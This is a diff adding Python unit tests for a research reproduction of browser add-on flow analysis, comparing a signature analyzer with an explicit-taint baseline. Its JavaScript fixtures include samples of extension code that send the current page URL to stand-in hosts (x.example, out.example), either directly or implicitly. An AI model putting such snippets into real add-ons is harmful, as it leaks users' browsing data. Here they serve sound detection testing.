@@ -1,0 +1,78 @@
+"""Unit tests for the VEX-style explicit-taint baseline."""
+
+import pytest
+
+from repro.api import analyze_addon, build_addon_pdg
+from repro.browser import mozilla_spec
+from repro.signatures import FlowType, infer_signature
+from repro.signatures.taint import implicit_only_flows, infer_taint_signature
+
+
+def run_both(source):
+    program, result = analyze_addon(source)
+    pdg = build_addon_pdg(result)
+    spec = mozilla_spec()
+    full = infer_signature(result, pdg, spec).signature
+    taint = infer_taint_signature(result, pdg, spec).signature
+    return full, taint
+
+
+EXPLICIT = """
+var xhr = new XMLHttpRequest();
+xhr.open("GET", "https://x.example/?u=" + content.location.href, true);
+xhr.send(null);
+"""
+
+IMPLICIT = """
+window.addEventListener("load", function (e) {
+    if (content.location.href == "secret.example") {
+        var xhr = new XMLHttpRequest();
+        xhr.open("GET", "https://out.example/ping", true);
+        xhr.send(null);
+    }
+}, false);
+"""
+
+
+class TestTaintBaseline:
+    def test_explicit_flow_found_by_both(self):
+        full, taint = run_both(EXPLICIT)
+        assert full.flows == taint.flows
+        assert taint.flows
+
+    def test_implicit_flow_invisible_to_taint(self):
+        full, taint = run_both(IMPLICIT)
+        assert full.flows  # the signature analysis sees it
+        assert not taint.flows  # the taint baseline does not
+
+    def test_taint_reports_only_type1_type2(self):
+        full, taint = run_both(EXPLICIT + IMPLICIT)
+        assert all(
+            e.flow_type in (FlowType.TYPE1, FlowType.TYPE2)
+            for e in taint.flows
+        )
+
+    def test_implicit_only_flows_helper(self):
+        full, taint = run_both(EXPLICIT + IMPLICIT)
+        missed = implicit_only_flows(full, taint)
+        assert missed
+        assert all(
+            e.flow_type not in (FlowType.TYPE1, FlowType.TYPE2) for e in missed
+        )
+
+    def test_api_usage_still_reported(self):
+        full, taint = run_both("eval('x');")
+        assert any(e.api == "eval" for e in taint.apis)
+
+    def test_bare_sends_still_reported(self):
+        full, taint = run_both(
+            """
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "https://static.example/feed", true);
+            xhr.send(null);
+            """
+        )
+        assert any(
+            e.domain is not None and "static.example" in e.domain.text
+            for e in taint.apis
+        )
